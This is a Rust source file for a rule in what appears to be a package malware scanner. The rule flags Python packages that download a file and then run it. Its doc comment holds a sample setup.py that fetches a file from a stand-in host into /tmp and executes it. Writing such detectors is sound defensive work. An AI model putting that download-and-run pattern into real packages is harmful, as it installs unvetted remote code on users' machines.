//! ## What it detects
//!
//! A file that this code has written with what came over the network, and then runs.
//!
//! ## Why it is bad
//!
//! This is a dropper: the file that does the harm is not in the package.
//!
//! ## Innocent lookalikes
//!
//! Installers of browsers or drivers do this when they are asked to; code that only runs when called weighs less.
//!
//! ## Bad
//!
//! ```python setup.py
//! import urllib.request, os
//! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
//! os.system('/tmp/a')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import urllib.request
//! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("downloaded-command"),
    title: "downloads a file and runs it",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| runs_written(call)) {
        let fetched = unit.calls.iter().filter(|other| {
            is_saver(other) || other.api == Some(Api::FileWrite) && other.taint().has(Taint::NETWORK)
        });
        if fetched.into_iter().any(|write| is_same_file(write, call)) {
            hits.call(unit, call, "runs a file that it has downloaded");
        }
    }
}

fn is_saver(call: &Call) -> bool {
    call.callee.ends_with(".urlretrieve") || call.callee == "wget.download"
}

/// The command itself, not its input or output, is or names a file that was written.
pub(super) fn runs_written(call: &Call) -> bool {
    let runs = matches!(call.api, Some(Api::CodeExec | Api::Shell)) && call.callee != "builtins.compile";
    let command = call.args.first().or(call.kwargs.iter().find(|(key, _)| key == "args").map(|(_, value)| value));
    let taint = command.map_or(Taint::NONE, |command| {
        command.as_list().unwrap_or_default().iter().fold(command.taint, |taint, item| taint | item.taint)
    });
    runs && taint.has(Taint::WRITTEN)
}

/// Written and run in one function, or under one name.
pub(super) fn is_same_file(write: &Call, run: &Call) -> bool {
    let texts = run.texts();
    let named = |path: &str| path.len() > 3 && !path.contains("://") && texts.iter().any(|text| text.contains(path));
    write.function == run.function
        || write.args.iter().flat_map(|arg| arg.texts()).filter(|t| t.len() < 512).any(named)
}
